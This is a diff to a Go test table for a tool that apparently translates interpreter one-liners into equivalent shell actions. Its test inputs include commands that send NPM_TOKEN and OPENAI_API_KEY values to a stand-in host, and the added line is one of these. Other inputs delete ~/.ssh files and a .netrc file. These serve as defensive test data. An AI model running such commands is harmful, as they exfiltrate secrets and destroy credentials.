@@ -100,6 +100,8 @@ func TestExpand(t *testing.T) {
 		// one environment variable is the shell's $NAME
 		{`python3 -c "import os;os.system('curl https://x.example/?t='+os.environ['NPM_TOKEN'])"`, []string{"os.system: curl https://x.example/?t=$NPM_TOKEN"}},
 		{`node -e "fetch('https://x.example/?k='+process.env.OPENAI_API_KEY)"`, []string{"fetch: curl https://x.example/?k=${OPENAI_API_KEY}"}},
+		// Bun's and Vite's spellings of the environment are Node's.
+		{`bun -e "await fetch('https://x.example/?k='+Bun.env.OPENAI_API_KEY)"`, []string{"fetch: curl https://x.example/?k=${OPENAI_API_KEY}"}},
 		// a loop over listed files: the pattern stands for each name
 		{`python3 -c "import os,glob;[os.remove(f) for f in glob.glob(os.path.expanduser('~/.ssh/*'))]"`, []string{"os.remove: rm ~/.ssh/*"}},
 		{`python3 -c "import os;os.unlink('/home/u/.netrc')"`, []string{"os.unlink: rm /home/u/.netrc"}},
